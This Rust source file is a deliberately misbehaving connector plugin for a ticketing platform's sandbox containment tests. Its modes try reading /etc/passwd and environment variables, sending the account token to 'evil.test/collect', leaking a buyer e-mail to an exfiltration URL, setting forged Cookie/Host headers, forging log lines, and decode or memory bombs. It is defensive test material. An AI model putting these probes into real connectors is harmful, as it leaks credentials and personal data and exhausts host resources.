//! A connector that misbehaves on purpose, for the host's containment tests.
//!
//! The `mode` setting picks the misdeed: `ok` behaves; `loop`, `memory-bomb`, `panic`,
//! `huge-output`, `read-file`, `read-env`, `open-socket`, `pii`, `garbled-records`, `bad-url`,
//! `reach`, `steal-token` each try one thing a sandboxed connector must not get away with; so do
//! the resource attacks `fan-out`, `endless-paging`, `log-flood`, `log-forge`, `decode-bomb`,
//! `record-bomb`, `bytes-bomb` and `long-string` (requests go to the `base_url` setting when
//! set, so a test can serve them on loopback). Screening modes (read a page from the `base_url`
//! setting): `exfil-path|query|header|body` send the page's buyer e-mail to `exfil_url`,
//! `host-header`/`cookie-header` set a forbidden header, `pii-lookalike` emits look-alike
//! personal data, `pii-cursor` a cursor with an e-mail, `pii-error` a log line and an error with
//! one and a newline, `echo-body` copies the page into logs and records. Probes that can fail
//! quietly (file, env, socket) report their outcome through `log`, so tests can assert that the
//! sandbox said no. The `records` setting `typed` sends any mode's records typed instead of
//! encoded (contract 0.3's two forms).

use boxoffice_plugin_sdk::{
    bindings::Guest, get, setting, Auth, HostApi, HttpRequest, HttpResponse, Inventory, Level,
    Manifest, Page, PersonalId, PluginError, RecordWriter, RunContext, Ticket, TicketStatus,
    WasmHost, WebhookDelivery, WebhookOutcome,
};

pub mod manifest_patch;

pub struct Testbed;

fn ticket(id: usize, category: String, buyer: Option<PersonalId<'static>>) -> Ticket<'static> {
    Ticket {
        ticket_id: format!("t{id}").into(),
        order_id: format!("o{id}").into(),
        event_id: "e1".into(),
        show_id: None,
        category: category.into(),
        channel: "online".into(),
        status: TicketStatus::Valid,
        price_minor: 1000,
        service_fee_minor: 0,
        buyer_fee_minor: 0,
        producer_cost_minor: 0,
        refunded_minor: 0,
        currency: "EUR".into(),
        ordered_at_ms: 1_700_000_000_000,
        updated_at_ms: 1_700_000_000_000 + id as i64,
        scanned_at_ms: None,
        refunded_at_ms: None,
        buyer,
        region: Some("FR-69".into()),
        utm_source: None,
        utm_medium: None,
        utm_campaign: None,
        payment_method: Some("card".into()),
        visibility: vec![],
    }
}

/// Runs the probe for `mode` at `begin` time.
pub fn begin_with(
    host: &mut impl HostApi,
    ctx: &RunContext,
) -> Result<Vec<HttpRequest>, PluginError> {
    let mode = setting(ctx, "mode").unwrap_or("ok");
    match mode {
        "loop" => {
            let mut x: u64 = 0;
            loop {
                x = std::hint::black_box(x.wrapping_add(1));
            }
        }
        "memory-bomb" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![7u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "panic" => panic!("testbed: deliberate panic"),
        "read-file" => {
            let r = std::fs::read("/etc/passwd");
            host.log(
                Level::Info,
                &format!("read-file: {}", outcome(r.map(|b| b.len()))),
            );
        }
        "read-env" => {
            let n = std::env::vars().count();
            let home = std::env::var("HOME").is_ok();
            host.log(Level::Info, &format!("read-env: vars={n} home={home}"));
        }
        "open-socket" => {
            let addr = setting(ctx, "addr").unwrap_or("127.0.0.1:9").to_string();
            let r = std::net::TcpStream::connect(addr.as_str()).map(|_| 0usize);
            host.log(Level::Info, &format!("open-socket: {}", outcome(r)));
        }
        "bad-url" => return Ok(vec![get("steal", "https://evil.example.invalid/x", vec![])]),
        // Tries every URL of the `targets` setting (comma-separated) with the account's token:
        // the daemon test points them at a loopback listener nobody granted.
        "reach" => {
            let targets = setting(ctx, "targets").unwrap_or("");
            return Ok(targets
                .split(',')
                .filter(|t| !t.is_empty())
                .map(|t| {
                    let mut r = get("reach", t, vec![]);
                    r.auth = Auth::BearerHeader("token".into());
                    r
                })
                .collect());
        }
        // Outbound and record screening (sandbox_screening.rs): read a page from `base_url`.
        "exfil-path" | "exfil-query" | "exfil-header" | "exfil-body" | "pii-lookalike"
        | "pii-cursor" | "pii-error" | "echo-body" => return Ok(vec![vendor_page(ctx)]),
        // Headers a connector may not set: refused before any connection.
        "host-header" | "cookie-header" => {
            let mut r = vendor_page(ctx);
            r.headers.push(match mode {
                "host-header" => ("Host".into(), "evil.example.invalid".into()),
                _ => ("Cookie".into(), "session=stolen".into()),
            });
            return Ok(vec![r]);
        }
        // Asks the host to put the account's `token` on a request to a host of its choosing
        // (setting `url`; default: the `evil.test` a patched manifest names).
        "steal-token" => {
            let url = setting(ctx, "url").unwrap_or("https://evil.test/collect");
            let mut req = get("steal", url, vec![]);
            req.auth = Auth::BearerHeader("token".into());
            return Ok(vec![req]);
        }
        // Plans `count` requests at once (default 100,000): a queue without bound.
        "fan-out" => {
            let count: usize = setting(ctx, "count")
                .and_then(|c| c.parse().ok())
                .unwrap_or(100_000);
            let base = base_url(ctx);
            return Ok((0..count)
                .map(|i| get("page", &format!("{base}/tickets/{i}"), vec![]))
                .collect());
        }
        // Floods the log: many long lines.
        "log-flood" => {
            let line = "x".repeat(8 << 10);
            for _ in 0..20_000 {
                host.log(Level::Info, &line);
            }
        }
        // Tries to forge host log lines with line breaks and terminal escapes.
        "log-forge" => host.log(
            Level::Info,
            "page read\n2026-12-04T00:00:00.000000Z  INFO boxoffice::sync::run: sync finished: ok\r\u{1b}[2K\u{202e}",
        ),
        _ => {}
    }
    Ok(vec![get(
        "page",
        &format!("{}/tickets", base_url(ctx)),
        vec![],
    )])
}

/// Where requests go: the `base_url` setting, else the manifest's host.
fn base_url(ctx: &RunContext) -> &str {
    setting(ctx, "base_url").unwrap_or("https://allowed.test")
}

/// One ticket whose `visibility` list claims `claimed` entries but holds `present` (empty
/// ones), encoded by hand: the SDK's writer cannot lie about a count.
fn ticket_claiming_list(claimed: u64, present: usize) -> Vec<u8> {
    let mut records = RecordWriter::default();
    records.ticket(ticket(1, "PHASE 1".into(), None));
    let mut blob = records.finish();
    // `visibility` is the last field; the writer wrote it empty (one 0 byte).
    blob.pop();
    let mut n = claimed;
    while n >= 0x80 {
        blob.push((n as u8 & 0x7f) | 0x80);
        n >>= 7;
    }
    blob.push(n as u8);
    blob.extend(std::iter::repeat_n(0u8, present));
    blob
}

/// `GET {base_url}/page` (the loopback vendor of the screening tests).
fn vendor_page(ctx: &RunContext) -> HttpRequest {
    let base = setting(ctx, "base_url").unwrap_or("https://allowed.test");
    get("page", &format!("{base}/page"), vec![])
}

/// The next request of an `exfil-*` mode: the buyer's e-mail read from the vendor's page, sent
/// to `exfil_url` in the path, a query parameter, a header or a GET body.
fn exfiltrate(ctx: &RunContext, mode: &str, response: &HttpResponse) -> Option<HttpRequest> {
    let buyer = serde_json::from_slice::<serde_json::Value>(&response.body)
        .ok()
        .and_then(|v| v["buyer"].as_str().map(str::to_string))?;
    let to = setting(ctx, "exfil_url").unwrap_or("https://allowed.test");
    Some(match mode {
        "exfil-path" => get(
            "leak",
            &format!("{to}/u/{}", buyer.replace('@', "%40")),
            vec![],
        ),
        "exfil-query" => get("leak", &format!("{to}/q"), vec![("q".into(), buyer)]),
        "exfil-header" => {
            let mut r = get("leak", &format!("{to}/h"), vec![]);
            r.headers.push(("If-None-Match".into(), buyer));
            r
        }
        _ => {
            let mut r = get("leak", &format!("{to}/b"), vec![]);
            r.headers
                .push(("Content-Type".into(), "application/json".into()));
            r.body = Some(serde_json::json!({ "q": buyer }).to_string().into_bytes());
            r
        }
    })
}

fn outcome(r: std::io::Result<usize>) -> String {
    match r {
        Ok(n) => format!("ok {n}"),
        Err(e) => format!("denied ({e})"),
    }
}

/// Emits the page for `mode`, its records encoded, or typed (0.3 `typed`) when the `records`
/// setting is `typed`: the same records either way, so tests can hold the host to treating
/// both alike (a page whose blob does not decode stays encoded).
pub fn handle_with(
    host: &mut impl HostApi,
    ctx: &RunContext,
    response: &HttpResponse,
) -> Result<Page, PluginError> {
    let mut page = page_for_mode(host, ctx, response)?;
    if setting(ctx, "records") == Some("typed") {
        if let Ok(items) = boxoffice_plugin_sdk::decode_records(page.records.blob()) {
            page.records = boxoffice_plugin_sdk::typed::typed(items);
        }
    }
    Ok(page)
}

fn page_for_mode(
    host: &mut impl HostApi,
    ctx: &RunContext,
    response: &HttpResponse,
) -> Result<Page, PluginError> {
    let mode = setting(ctx, "mode").unwrap_or("ok");
    let n: usize = std::str::from_utf8(&response.body)
        .ok()
        .and_then(|s| s.trim().parse().ok())
        .unwrap_or(3);
    let mut records = RecordWriter::default();
    match mode {
        // Always one more page.
        "endless-paging" => {
            records.ticket(ticket(1, "PHASE 1".into(), None));
            return Ok(Page {
                records: records.finish().into(),
                next: vec![get("page", &format!("{}/tickets", base_url(ctx)), vec![])],
                cursor: None,
            });
        }
        // A list count claiming a million entries, with a million one-byte empty strings
        // behind it (~1 MB on the wire, a host string each if it were decoded).
        "decode-bomb" => {
            return Ok(Page {
                records: ticket_claiming_list(1_000_000, 1_000_000).into(),
                next: vec![],
                cursor: None,
            })
        }
        // 200,000 near-empty records in ~1.6 MB: hundreds of host bytes each.
        "record-bomb" => (0..200_000).for_each(|_| {
            records.inventory(Inventory {
                event_id: "".into(),
                show_id: "".into(),
                captured_at_ms: 0,
                capacity: None,
                available: None,
                sold: None,
            })
        }),
        // 20,000 tickets with 256 empty list entries each: under the record and list caps,
        // ~6 MB on the wire, over 100 MB decoded.
        "bytes-bomb" => (0..20_000).for_each(|i| {
            let mut t = ticket(i, "PHASE 1".into(), None);
            t.visibility = vec!["".into(); 256];
            records.ticket(t)
        }),
        // One string field of 100 KB.
        "long-string" => records.ticket(ticket(1, "x".repeat(100 << 10), None)),
        "huge-output" => (0..8_000).for_each(|i| records.ticket(ticket(i, "x".repeat(1024), None))),
        "pii" => {
            records.ticket(ticket(1, "PHASE 1".into(), None));
            records.ticket(ticket(2, "note: canary.name@example.invalid".into(), None));
        }
        // Screening (sandbox_screening.rs): personal data smuggled out of the sandbox.
        "exfil-path" | "exfil-query" | "exfil-header" | "exfil-body" => {
            // Once: the leak's own response (no buyer in it) ends the run.
            let next = exfiltrate(ctx, mode, response);
            return Ok(Page {
                records: records.finish().into(),
                next: next.into_iter().collect(),
                cursor: None,
            });
        }
        // One clean ticket, then one per look-alike spelling the firewall must reject.
        "pii-lookalike" => {
            records.ticket(ticket(0, "PHASE 1".into(), None));
            let smuggled: [(&str, &str); 10] = [
                ("category", "canary.name＠example.invalid"),
                ("category", "canary.name at example dot invalid"),
                ("category", "canary.name(at)example(dot)invalid"),
                ("channel", "06 12 34 56 78"),
                ("channel", "8 (912) 345-67-89"),
                ("payment_method", "4111 1111 1111 1111"),
                ("region", "12 rue X"),
                ("region", "Apt 4"),
                ("utm_campaign", "+00 000 CANARY"),
                ("visibility", "(0)6 12 34 56 78"),
            ];
            for (i, (field, value)) in smuggled.into_iter().enumerate() {
                let mut t = ticket(i + 1, "PHASE 1".into(), None);
                match field {
                    "category" => t.category = value.into(),
                    "channel" => t.channel = value.into(),
                    "payment_method" => t.payment_method = Some(value.into()),
                    "region" => t.region = Some(value.into()),
                    "utm_campaign" => t.utm_campaign = Some(value.into()),
                    _ => t.visibility = vec![value.into()],
                }
                records.ticket(t);
            }
            let mut rich = ticket(11, "PHASE 1".into(), None);
            rich.price_minor = i64::MAX / 2;
            records.ticket(rich);
        }
        "pii-cursor" => {
            records.ticket(ticket(0, "PHASE 1".into(), None));
            return Ok(Page {
                records: records.finish().into(),
                next: vec![],
                cursor: Some("after=canary.name@example.invalid".into()),
            });
        }
        "pii-error" => {
            host.log(
                Level::Warn,
                "buyer canary.name@example.invalid\nlevel=ERROR forged log line",
            );
            return Err(PluginError::Fatal(
                "cannot read buyer canary.name＠example.invalid\nlevel=ERROR forged error line"
                    .into(),
            ));
        }
        // Whatever the vendor sent, copied into a log line and a record field per line.
        "echo-body" => {
            let text = String::from_utf8_lossy(&response.body).into_owned();
            for (i, line) in text.lines().enumerate() {
                host.log(Level::Info, &format!("echo {i}: {line}"));
                records.ticket(ticket(i, line.chars().take(400).collect(), None));
            }
        }
        // A well-formed ticket, then bytes that frame no record.
        "garbled-records" => {
            records.ticket(ticket(1, "PHASE 1".into(), None));
            let mut blob = records.finish();
            blob.extend_from_slice(&[1, 0xFF, 0xFF]);
            return Ok(Page {
                records: blob.into(),
                next: vec![],
                cursor: Some("garbled".into()),
            });
        }
        _ => (0..n).for_each(|i| {
            let buyer = PersonalId {
                kind: "user".into(),
                value: format!("{}", 7_000_000 + i).into(),
            };
            records.ticket(ticket(i, "PHASE 1".into(), Some(buyer)))
        }),
    }
    Ok(Page {
        records: records.finish().into(),
        next: vec![],
        cursor: Some(format!("cursor-{n}")),
    })
}

impl Guest for Testbed {
    fn manifest() -> Manifest {
        // Tests may rewrite parts of it in the built component (see `manifest_patch`).
        manifest_patch::apply(Manifest {
            id: "testbed".into(),
            vendor: "Testbed".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            allowed_hosts: vec!["allowed.test".into()],
            // Declared so hostile modes can ask for the account's token where it must not go.
            secrets: vec!["token".into()],
            settings: vec![],
            default_interval_secs: 60,
            max_requests_per_minute: 600,
            // Takes no webhooks (contract 0.4): `webhook` below says so.
            webhook: None,
        })
    }

    fn begin(ctx: RunContext) -> Result<Vec<HttpRequest>, PluginError> {
        begin_with(&mut WasmHost, &ctx)
    }

    fn handle(
        ctx: RunContext,
        _request: HttpRequest,
        response: HttpResponse,
    ) -> Result<Page, PluginError> {
        handle_with(&mut WasmHost, &ctx, &response)
    }

    fn webhook(
        _ctx: RunContext,
        _delivery: WebhookDelivery,
    ) -> Result<WebhookOutcome, PluginError> {
        Err(PluginError::Fatal(
            boxoffice_plugin_sdk::connector::WEBHOOKS_NOT_SUPPORTED.into(),
        ))
    }
}

boxoffice_plugin_sdk::export!(Testbed);
